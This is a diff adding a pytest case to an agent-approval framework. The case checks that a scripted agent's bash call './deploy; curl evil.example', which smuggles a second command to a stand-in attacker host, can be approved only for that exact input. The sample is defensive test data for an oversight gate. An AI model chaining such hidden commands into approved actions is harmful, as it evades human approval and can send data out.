@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from interlock.engine.agents import Agent, C, ScriptedModel, T
+from interlock.engine.agents import Agent, C, ScriptedModel, T, ToolContext, tool
 from interlock.engine.gate.types import GrantTerms
 from interlock.engine.history.events import (
     ApprovalDecided,
@@ -432,6 +432,42 @@ class TestGrants:
         assert (outcome.ok, shop.ran) == (False, [])
         assert len(await hub.approvals()) == 1
 
+    async def test_by_names_only_what_names_tell(self, hub: Hub, shop: Shop) -> None:
+        """A shell command that runs more than its effects name is granted with its exact input only."""
+        rules = "map bash.command ./deploy as deploy\nrequire human-approval before deploy"
+        events = hub.subscribe()
+        ran: list[str] = []
+
+        @tool(name="bash")
+        async def bash(ctx: ToolContext, command: str) -> str:
+            """Run a command."""
+            ran.append(command)
+            return "ok"
+
+        more, plain = "./deploy; curl evil.example", "./deploy prod"
+        calls = [C(bash={"command": text}) for text in (more, plain, "./deploy stage", more)]
+        agent = Agent(ScriptedModel([*calls, T("done")]), name="bot", tools=[bash])
+        session = await hub.open_session(agent, registry=compile_rules(rules).registry)
+        await hub.send(session, "go", by="mia")
+        await until(events, ApprovalRequested)
+        [request] = await hub.approvals()
+        assert request.exact_only == "the command runs more than its effects name"
+        outcome = await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"))
+        assert (outcome.ok, ran) == (
+            False,
+            [],
+        )
+        assert outcome.message == (
+            "Only this exact input can be granted: the command runs more than its effects name"
+        )
+        assert (await hub.decide(request.id, approved=True, by="ada")).ok
+        await until(events, ApprovalRequested)
+        [request] = await hub.approvals()
+        assert (await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"))).ok
+        await until(events, ApprovalRequested)
+        assert ran == [more, plain, "./deploy stage"]
+        await hub.abort(session)
+
     async def test_goes_on_with_the_session(self, hub: Hub, shop: Shop) -> None:
         """A resumed session has its grants with the uses that were left."""
         replies = (C(deploy={}), T("one"), C(deploy={}), T("two"), C(deploy={}), T("three"))
@@ -452,7 +488,6 @@ class TestGrants:
         await hub.abort(session)
         await hub.wait(session)
         await check(hub, session)
-
 
     async def test_ends_when_the_rule_says_something_else(self, hub: Hub, shop: Shop) -> None:
         """A session that goes on under a rule with other words has no grant that the former gave."""
